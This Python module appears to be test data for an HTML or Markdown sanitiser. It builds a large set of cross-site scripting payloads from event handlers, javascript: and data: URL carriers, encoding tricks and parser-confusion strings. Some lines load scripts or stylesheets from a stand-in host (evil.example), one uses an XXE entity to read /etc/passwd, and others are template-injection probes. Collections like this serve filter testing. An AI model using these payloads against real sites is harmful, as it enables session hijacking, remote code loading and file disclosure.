"""Markup that has got through somebody's filter: what could become active in a page, a feed, a script or Markdown."""

from __future__ import annotations

from itertools import product

_HANDLERS = ("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onpointerenter")
_ELEMENTS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe src=x", "math", "marquee", "a")
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
)
_CARRIERS = (
    "<a href='{}'>x</a>",
    '<iframe src="{}">',
    "[x]({})",
    "<{}>",
    "<form action={}><button>",
    "<object data={}>",
    "![x]({})",
)
_OTHERS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<xhtml:script xmlns:xhtml='http://www.w3.org/1999/xhtml'>alert(1)</xhtml:script>",
    "'-alert(1)-'",
    '";alert(1)//',
    "\\u003cscript\\u003ealert(1)",
    "\u2028alert(1)\u2029",
    "＜script＞alert(1)＜/script＞",
    "<img src=x onerror=alert(1)//",
    "<<script>alert(1)//<</script>",
    "{{7*7}}{%import os%}",
    "${7*7}<%= 7*7 %>",
    "\x00<script>alert(1)</script>",
    "<a\x0bhref=javascript:alert(1)>x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "`<img src=x onerror=alert(1)>`",
    "</textarea><script>alert(1)</script>",
    "<p style='background:url(javascript:alert(1))'>",
    "M61.0<script>alert(1)</script>",
)

VECTORS = (
    *(f"<{element} {handler}=alert(1)>" for element, handler in product(_ELEMENTS, _HANDLERS)),
    *(f'"><{element} {handler}="alert(1)' for element, handler in product(_ELEMENTS, _HANDLERS[:4])),
    *(f"' {handler}='alert(1)" for handler in _HANDLERS),
    *(carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)),
    *_OTHERS,
)
